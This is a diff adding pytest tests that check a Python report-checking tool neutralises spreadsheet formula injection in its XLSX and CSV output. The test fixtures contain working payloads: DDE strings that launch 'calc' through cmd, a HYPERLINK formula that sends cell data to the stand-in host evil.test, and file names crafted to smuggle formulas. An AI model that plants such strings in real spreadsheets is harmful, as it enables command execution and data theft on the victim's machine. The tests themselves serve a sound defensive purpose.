@@ -98,3 +98,80 @@ def test_bad_address_rows_are_skipped_not_sent(tmp_path, cell) -> None:
     assert not read.to.get(name_key("Dinas Kesehatan"))
     assert read.to[name_key("Dinas Pendidikan")] == ["b@b.go.id"]
     assert len(read.skipped) == 1 and "line 2" in read.skipped[0]
+
+
+# --- defect 2: no live formula in a spreadsheet ------------------------------------------------
+
+EVIL_REPORT = """LAPORAN KINERJA INSTANSI PEMERINTAH TAHUN 2024
+
+Tabel 3.1 Capaian Kinerja Sasaran
+
+No | Sasaran | Indikator | Satuan | Target | Realisasi | Capaian
+1 | =1+2 Meningkatnya mutu | @SUM(1+1)*cmd|'/C calc'!A0 | % | 80 | 90 | 100,00
+2 | +Meningkatnya layanan | -2+3 Persentase layanan | % | 50 | 40 | 80,00
+
+Tabel 3.2 Realisasi Anggaran
+
+No | Program | Anggaran (Rp) | Realisasi (Rp) | %
+1 | =HYPERLINK("http://evil.test/?d="&A1,"klik") | 1.000.000 | 900.000 | 90,00
+2 | \tProgram Pelayanan | 2.000.000 | 1.500.000 | 75,00
+"""
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _live_cells(book) -> list[str]:
+    """Every cell of every sheet a spreadsheet would evaluate (a formula, or text starting like one)."""
+    return [f"{ws.title}!{cell.coordinate}={cell.value!r}"
+            for ws in book.worksheets for row in ws.iter_rows() for cell in row
+            if cell.data_type == "f"
+            or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_START))]
+
+
+def test_review_xlsx_holds_no_live_formula(tmp_path, monkeypatch) -> None:
+    """Row labels, names and a file name starting with = + - @ or a tab are text in every sheet,
+    and an instansi from a crafted JSON result too."""
+    import io
+    import json
+
+    from openpyxl import load_workbook
+
+    from lkip.report.email import from_result
+    from lkip.report.xlsx import render_xlsx
+
+    monkeypatch.chdir(tmp_path)
+    name = '=HYPERLINK("http:evil.test","x").txt'
+    Path(name).write_text(EVIL_REPORT, encoding="utf-8")
+    assert main(["check", name, "-f", "xlsx", "-o", "review.xlsx"]) in (0, 1)
+    book = load_workbook("review.xlsx")
+    assert _live_cells(book) == []
+    cells = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert "'" + name in cells  # the text is kept, only made inert
+    assert main(["check", name, "-f", "json", "-o", "review.json"]) in (0, 1)
+    data = json.loads(Path("review.json").read_text(encoding="utf-8"))
+    data["document"]["instansi"] = "=cmd|' /C calc'!A0"
+    data["tables"][0]["caption_raw"] = "@SUM(A1:A9)"
+    book = load_workbook(io.BytesIO(render_xlsx(from_result(data))))
+    assert _live_cells(book) == []
+
+
+def test_batch_summary_holds_no_live_formula(tmp_path) -> None:
+    """File names are the attacker's input to summary.csv and summary.xlsx."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    from lkip.batch.run import Options, run_batch
+
+    archive = tmp_path / "arsip"
+    archive.mkdir()
+    names = ['=HYPERLINK("http:evil.test","x").txt', "+1+2.txt", "-2+3.txt", "@SUM(1).txt"]
+    for n, name in enumerate(names):
+        (archive / name).write_text(EVIL_REPORT + f"\nCatatan {n}\n", encoding="utf-8")
+    out = tmp_path / "hasil"
+    run_batch(Options(inputs=[str(archive)], out=out, workers=1, timeout=120))
+    with (out / "summary.csv").open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_START)], rows
+    assert {"'" + name for name in names} <= set(cells)
+    assert _live_cells(load_workbook(out / "summary.xlsx")) == []
